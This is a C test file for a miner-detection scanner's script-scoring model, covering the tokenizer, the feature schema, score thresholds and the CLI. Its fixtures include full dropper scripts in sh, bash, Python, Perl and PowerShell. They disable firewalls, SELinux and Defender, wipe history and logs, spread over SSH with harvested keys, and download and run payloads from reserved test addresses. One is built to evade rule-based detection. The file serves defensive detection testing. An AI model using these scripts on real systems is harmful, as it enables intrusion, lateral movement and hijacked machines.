/*
 * test_script_score.c - the script score (issue 10, part 3):
 *
 *  - the tokenizer's contract (lower case, '.' trimmed, punctuation one
 *    byte, long words cut and counted, bounds);
 *  - the feature schema (unique names, the compiled-in model matches it);
 *  - droppers that never name a miner, in sh, Python, Perl and PowerShell,
 *    score over the threshold; ordinary admin scripts with one or two of
 *    the same commands score under it;
 *  - end to end through the CLI: such a dropper is flagged, one written to
 *    slip past every behaviour rule is flagged by the score alone, and the
 *    scripts of this machine's /etc and /usr/sbin stay clean.
 *
 * Fixture hosts are reserved (TEST-NET, example.net); nothing is run.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "script_score.h"
#include "util.h"

/* ---- tokenizer ---- */

typedef struct toks {
    char text[32][MS_SCRIPT_MAX_TOKEN + 1];
    size_t full[32];
    bool punct[32];
    size_t n;
} toks;

static int collect(void *ud, const ms_script_token *t) {
    toks *k = ud;
    cr_assert(t->len >= 1 && t->len <= MS_SCRIPT_MAX_TOKEN);
    if (k->n < 32) {
        memcpy(k->text[k->n], t->text, t->len);
        k->text[k->n][t->len] = '\0';
        k->full[k->n] = t->full_len;
        k->punct[k->n] = t->punct;
        k->n++;
    }
    return MS_CONTINUE;
}

/* every test has a timeout far below its meson suite's (issue 15) */
TestSuite(script_score, .timeout = 240);

Test(script_score, tokenizer_contract) {
    toks k = {0};
    const char *s = "PS aux|awk '{if($3>40.0) print $2}' ./X.sh. \xc3\xa9t\xc3\xa9 ...";
    cr_assert_eq(ms_script_tokenize((const uint8_t *)s, strlen(s), collect, &k), 0);
    static const char *const want[] = {"ps", "aux", "|", "awk", "'", "{", "if", "(", "$3", ">", "40.0",
                                       ")", "print", "$2", "}", "'", "/x.sh", "t"};
    cr_assert_eq(k.n, sizeof(want) / sizeof(want[0]), "%zu tokens", k.n);
    for (size_t i = 0; i < k.n; i++)
        cr_assert_str_eq(k.text[i], want[i], "token %zu", i);
    cr_assert(k.punct[2] && !k.punct[3]);

    /* a long word is cut, and says how long it was */
    char big[300];
    memset(big, 'A', sizeof(big));
    memset(&k, 0, sizeof(k));
    cr_assert_eq(ms_script_tokenize((const uint8_t *)big, sizeof(big), collect, &k), 0);
    cr_assert_eq(k.n, 1);
    cr_assert_eq(strlen(k.text[0]), MS_SCRIPT_MAX_TOKEN);
    cr_assert_eq(k.full[0], sizeof(big));
    cr_assert_eq(k.text[0][0], 'a');
}

static int stop_after_two(void *ud, const ms_script_token *t) {
    (void)t;
    return ++*(int *)ud == 2 ? MS_STOP : MS_CONTINUE;
}

static int fail_now(void *ud, const ms_script_token *t) {
    (void)ud;
    (void)t;
    return -42;
}

Test(script_score, tokenizer_stops_and_fails) {
    const char *s = "a b c d";
    int n = 0;
    cr_assert_eq(ms_script_tokenize((const uint8_t *)s, strlen(s), stop_after_two, &n), 0);
    cr_assert_eq(n, 2);
    cr_assert_eq(ms_script_tokenize((const uint8_t *)s, strlen(s), fail_now, NULL), -42);
    cr_assert_eq(ms_script_tokenize(NULL, 0, fail_now, NULL), 0);
}

/* ---- schema and model ---- */

Test(script_score, schema_names_unique_and_model_matches) {
    size_t dim = ms_script_features_dim();
    cr_assert_gt(dim, 50);
    for (size_t i = 0; i < dim; i++) {
        cr_assert_not_null(ms_script_feature_name(i));
        for (size_t j = 0; j < i; j++)
            cr_assert_str_neq(ms_script_feature_name(i), ms_script_feature_name(j), "feature %zu twice", i);
    }
    cr_assert_null(ms_script_feature_name(dim));
    cr_assert(ms_script_model_ok(),
              "the compiled-in script model (schema %s) does not match the features: retrain with "
              "ms-script-train (corpus-tools/README.md)",
              ms_script_features_schema_hash());
    double t = ms_script_threshold();
    cr_assert(t > 0.5 && t < 1, "threshold %f", t);
}

/* ---- droppers and admin scripts ---- */

static const char *const droppers[] = {
    /* sh: kill by CPU, rival cron, defences, wiping, a hidden stage */
    "#!/bin/sh\nulimit -n 65535\n"
    "ps aux | grep -v grep | awk '{if($3>55.0) print $2}' | xargs -r kill -9\n"
    "chattr -ia /var/spool/cron/root\ncrontab -r\n"
    "setenforce 0 2>/dev/null\nufw disable\niptables -F\necho 0 > /proc/sys/kernel/nmi_watchdog\n"
    "history -c\nunset HISTFILE\nrm -f ~/.bash_history\n"
    "curl -fsSL http://198.51.100.23:8080/b -o /var/tmp/.dbus\nchmod +x /var/tmp/.dbus\n"
    "nohup /var/tmp/.dbus >/dev/null 2>&1 &\n",
    /* bash: SSH spreading with harvested keys */
    "#!/bin/bash\nKEYS=$(find /root /home -maxdepth 3 -name 'id_rsa*' | grep -v pub)\n"
    "HOSTS=$(cat ~/.ssh/known_hosts ~/.bash_history | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}')\n"
    "for h in $HOSTS; do for k in $KEYS; do\n"
    "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=4 -i $k root@$h "
    "'wget -q -O- http://203.0.113.9/s | sh' &\ndone; done\nhistory -c\n"
    "pkill -f kdevtmpfsi\npkill -f kinsing\npkill -f sysupdate\n"
    "wget -q http://203.0.113.9/b -O /tmp/.ssh-agent\nchmod +x /tmp/.ssh-agent\nnohup /tmp/.ssh-agent &\n",
    /* python */
    "#!/usr/bin/env python3\nimport os, psutil, subprocess, urllib.request\n"
    "for p in psutil.process_iter():\n    if p.cpu_percent(interval=0.2) > 60:\n        p.kill()\n"
    "os.system('setenforce 0')\nos.system('iptables -F')\nos.system('crontab -r')\n"
    "os.system('history -c')\n"
    "urllib.request.urlretrieve('http://192.0.2.44/k', '/tmp/.k')\nos.chmod('/tmp/.k', 0o755)\n"
    "subprocess.Popen(['/tmp/.k'])\n",
    /* perl */
    "#!/usr/bin/perl\nuse LWP::Simple;\n"
    "foreach my $n (qw(kthreaddi sysupdate networkservice dbused)) { system(\"pkill -9 -f $n\"); }\n"
    "system('crontab -r'); system('chattr -i /etc/crontab'); system('iptables -F');\n"
    "system('unset HISTFILE; history -c');\n"
    "getstore('http://198.51.100.3/x', '/dev/shm/.x'); chmod 0755, '/dev/shm/.x';\n"
    "system('nohup /dev/shm/.x >/dev/null 2>&1 &');\n",
    /* powershell */
    "Get-Process | Where-Object { $_.CPU -gt 90 } | Stop-Process -Force\n"
    "Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath \"$env:TEMP\"\n"
    "netsh advfirewall set allprofiles state off\nwevtutil cl System\nwevtutil cl Security\n"
    "schtasks /delete /tn \"Update\" /f\n"
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')\n",
};

static const char *const admin[] = {
    /* an init script: kills its daemon, uses /tmp, /dev/null */
    "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: food\n### END INIT INFO\n"
    "PIDFILE=/run/food.pid\ncase \"$1\" in\nstart) start-stop-daemon --start --pidfile $PIDFILE "
    "--exec /usr/sbin/food >/dev/null 2>&1 ;;\nstop) kill $(cat $PIDFILE); rm -f /tmp/food.sock ;;\n"
    "restart) $0 stop; $0 start ;;\nesac\nexit 0\n",
    /* a firewall reset */
    "#!/bin/sh\n# reset the firewall to the defaults\niptables -F\niptables -X\niptables -P INPUT ACCEPT\n"
    "iptables -P FORWARD DROP\niptables -A INPUT -i lo -j ACCEPT\n",
    /* an installer */
    "#!/bin/sh\nset -e\nif ! command -v tool >/dev/null; then\n"
    "  curl -fsSL https://tools.example.net/install.sh | sh\nfi\nmkdir -p \"$HOME/.config/tool\"\n"
    "tool --version\n",
    /* a python helper */
    "#!/usr/bin/env python3\nimport subprocess, sys\n\ndef main():\n"
    "    out = subprocess.run(['systemctl', 'status', sys.argv[1]], capture_output=True)\n"
    "    print(out.stdout.decode())\n\nif __name__ == '__main__':\n    main()\n",
};

static double score_of(ms_script_scorer *s, const char *text) {
    double score = -1;
    ms_contrib top[4];
    size_t n_top = 0;
    cr_assert_eq(ms_script_score(s, (const uint8_t *)text, strlen(text), &score, top, 4, &n_top), 0);
    cr_assert(score >= 0 && score <= 1);
    for (size_t i = 1; i < n_top; i++)
        cr_assert_geq(top[i - 1].weight, top[i].weight, "top contributions are sorted");
    return score;
}

Test(script_score, droppers_over_admin_under) {
    cr_assert(ms_script_model_ok(), "no script model compiled in");
    ms_script_scorer *s = NULL;
    cr_assert_eq(ms_script_scorer_new(&s), 0);
    double t = ms_script_threshold();
    for (size_t i = 0; i < sizeof(droppers) / sizeof(droppers[0]); i++) {
        double sc = score_of(s, droppers[i]);
        cr_assert_geq(sc, t, "dropper %zu scores %.4f under the threshold %.4f", i, sc, t);
    }
    for (size_t i = 0; i < sizeof(admin) / sizeof(admin[0]); i++) {
        double sc = score_of(s, admin[i]);
        cr_assert_lt(sc, t, "admin script %zu scores %.4f over the threshold %.4f", i, sc, t);
    }
    ms_script_scorer_free(s);
    ms_script_scorer_free(NULL);
}

/* ---- through the CLI ---- */

static json_t *scan_jsonl(t_result *res, const char *path) {
    cr_assert_eq(t_minerscan(res, NULL, "-f", "jsonl", "--all", path, NULL), 0);
    json_t *recs = t_jsonl(res->out);
    cr_assert_not_null(recs, "not JSON Lines:\n%s\n%s", res->out, res->err);
    return recs;
}

Test(script_score, cli_flags_a_dropper_that_never_says_miner, .timeout = 120) {
    char *dir = t_mkdtemp();
    char *path = t_write_str(dir, "update.sh", droppers[0]);
    t_result res;
    json_t *recs = scan_jsonl(&res, path);
    json_t *rec = t_find_record(recs, path);
    cr_assert_not_null(rec, "%s", res.out);
    const char *v = json_string_value(json_object_get(rec, "verdict"));
    cr_assert(!strcmp(v, "suspicious") || !strcmp(v, "malicious"), "verdict %s: %s", v, res.out);
    json_t *m = json_object_get(rec, "model");
    cr_assert(json_is_object(m), "no score recorded: %s", res.out);
    cr_assert_geq(json_real_value(json_object_get(m, "score")), json_real_value(json_object_get(m, "threshold")));
    cr_assert_eq(res.status, 1);
    json_decref(recs);
    t_result_free(&res);
    free(path);
    t_rmtree(dir);
    free(dir);
}

/* Every step in a form no behaviour rule matches on its own (no rival
 * names, no crontab -r, one defence, one wipe, a visible /tmp file, no
 * curl|sh): the score alone must say suspicious. */
Test(script_score, cli_score_alone_makes_suspicious, .timeout = 120) {
    const char *text =
        "#!/bin/sh\nfor p in $(pgrep -f kworker); do kill -9 $p; done\n"
        "for p in $(pgrep -f ksoftirq); do kill -9 $p; done\n"
        "crontab -l | grep -v upd | crontab -\n"
        "setenforce 0\nunset HISTFILE\n"
        "wget -q http://198.51.100.61/u -O /tmp/upd\nchmod 777 /tmp/upd\nnohup /tmp/upd >/dev/null 2>&1 &\n"
        "ssh -o StrictHostKeyChecking=no root@198.51.100.62 'wget -q http://198.51.100.61/u -O /tmp/upd'\n";
    char *dir = t_mkdtemp();
    char *path = t_write_str(dir, "upd.sh", text);
    t_result res;
    json_t *recs = scan_jsonl(&res, path);
    json_t *rec = t_find_record(recs, path);
    cr_assert_not_null(rec, "%s", res.out);
    size_t i;
    json_t *h;
    json_array_foreach(json_object_get(rec, "rules"), i, h) {
        const char *sev = json_string_value(json_object_get(h, "severity"));
        cr_assert_str_eq(sev, "low", "a rule decides this fixture (%s); make it subtler",
                         json_string_value(json_object_get(h, "rule")));
    }
    cr_assert(json_array_size(json_object_get(rec, "rules")) < 2, "two lows decide it: %s", res.out);
    cr_assert_str_eq(json_string_value(json_object_get(rec, "verdict")), "suspicious", "%s", res.out);
    const char *reason = json_string_value(json_object_get(rec, "reason"));
    cr_assert(reason && strstr(reason, "script score"), "reason: %s", reason ? reason : "(none)");
    json_decref(recs);
    t_result_free(&res);
    free(path);
    t_rmtree(dir);
    free(dir);
}

/* The admin scripts of this machine stay clean: no script under /etc or
 * /usr/sbin is suspicious or malicious. */
Test(script_score, cli_admin_scripts_of_this_machine_stay_clean, .timeout = 600) {
    static const char *const trees[] = {"/etc", "/usr/sbin"};
    for (size_t k = 0; k < sizeof(trees) / sizeof(trees[0]); k++) {
        struct stat st;
        if (stat(trees[k], &st) != 0 || !S_ISDIR(st.st_mode))
            cr_skip_test("%s is missing", trees[k]);
    }
    const char *argv[] = {t_minerscan_path(), "-j2", "-f", "jsonl", "--all", trees[0], trees[1], NULL};
    t_result res;
    cr_assert_eq(t_run(argv, NULL, 580, &res), 0);
    json_t *recs = t_jsonl(res.out);
    cr_assert_not_null(recs);
    size_t i, n_scripts = 0, n_flagged = 0;
    json_t *r;
    json_array_foreach(recs, i, r) {
        json_t *ft = json_object_get(r, "filetype");
        const char *cls = json_string_value(json_object_get(ft, "class"));
        if (!cls || strcmp(cls, "script"))
            continue;
        n_scripts++;
        cr_assert(json_is_object(json_object_get(r, "model")), "a script without a score: %s",
                  json_dumps(r, 0));
        const char *v = json_string_value(json_object_get(r, "verdict"));
        if (!strcmp(v, "suspicious") || !strcmp(v, "malicious")) {
            n_flagged++;
            fprintf(stderr, "flagged: %s\n", json_dumps(r, 0));
        }
    }
    fprintf(stderr, "admin scripts: %zu scored under /etc and /usr/sbin, %zu flagged\n", n_scripts, n_flagged);
    cr_assert_geq(n_scripts, 20, "only %zu scripts found", n_scripts);
    cr_assert_eq(n_flagged, 0);
    json_decref(recs);
    t_result_free(&res);
}
